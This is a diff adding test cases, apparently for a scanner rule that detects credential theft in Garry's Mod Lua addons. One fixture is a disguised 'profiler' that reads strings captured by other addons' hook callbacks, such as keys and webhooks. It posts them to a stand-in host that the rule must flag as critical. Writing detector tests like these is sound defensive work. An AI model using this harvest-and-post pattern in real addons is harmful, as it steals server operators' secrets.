@@ -200,4 +200,37 @@ describe('credential_theft', () => {
   it('only a count of connections posted (no finding)', () => {
     expect(check(rule, connectProfiler('1'))).toEqual([]);
   });
+  /** A "profiler" that reads the upvalues of every hook's callback, then does `use` with `found`. */
+  const upvalueScan = (use: string): Record<string, string> => ({
+    'lua/autorun/server/sv_hookprof.lua': [
+      'local function scan(fn, out)',
+      ' local i = 1',
+      ' while true do',
+      '  local name, value = debug.getupvalue(fn, i)',
+      '  if not name then break end',
+      '  if isstring(value) then out[#out + 1] = { name = name, value = value } end',
+      '  i = i + 1',
+      ' end',
+      'end',
+      'timer.Create("hookprof", 3600, 0, function()',
+      ' local found = {}',
+      ' for _, hooks in pairs(hook.GetTable()) do',
+      '  for _, fn in pairs(hooks) do scan(fn, found) end',
+      ' end',
+      use,
+      'end)',
+    ].join('\n'),
+  });
+  it("what other addons' hooks close over (their keys and webhooks), posted", () => {
+    const findings = check(
+      rule,
+      upvalueScan(
+        ' http.Post("https://cloud.example.invalid/report", { ctx = util.TableToJSON(found) })',
+      ),
+    );
+    expect(worst(findings)).toBe(RANK.critical);
+  });
+  it("what other addons' hooks close over, only counted in the console (no finding)", () => {
+    expect(check(rule, upvalueScan(' print(#found .. " upvalues")'))).toEqual([]);
+  });
 });
